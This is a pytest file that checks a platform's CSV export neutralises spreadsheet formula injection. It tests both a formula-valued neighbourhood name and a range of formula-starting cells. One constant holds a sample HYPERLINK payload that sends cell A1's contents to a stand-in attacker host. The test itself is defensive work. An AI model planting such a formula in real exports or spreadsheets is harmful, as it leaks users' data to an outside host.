"""No cell of a CSV that Wijkmarkt writes opens as a formula in the coordinator's spreadsheet."""

import csv
import io

import pytest

from tests.builders.clients import client_for
from tests.builders.console import make_coordinator
from wijkmarkt.platform.csv_export import neutralised
from wijkmarkt.platform.wijken.models import Wijk

HYPERLINK = '=HYPERLINK("https://kwaad.example/?d="&A1;"Klik hier")'


def test_a_wijk_name_that_is_a_formula_reaches_the_figures_csv_as_text(parkwijk):
    Wijk.objects.filter(pk=parkwijk.pk).update(name=HYPERLINK)

    response = client_for(None, make_coordinator()).get(
        "/console/cijfers.csv", {"since": "2026-03-01", "until": "2026-03-31", "wijk": "parkwijk"}
    )

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[1][0] == "'" + HYPERLINK
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


@pytest.mark.parametrize("cell", ["=1+1", "+31 6 12345678", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1"])
def test_every_formula_start_is_neutralised(cell):
    assert neutralised(cell) == "'" + cell


@pytest.mark.parametrize("cell, written", [("-1.5", "-1.5"), ("3", "3"), (None, ""), ("Parkwijk", "Parkwijk")])
def test_numbers_and_plain_text_stay_as_they_are(cell, written):
    assert neutralised(cell) == written
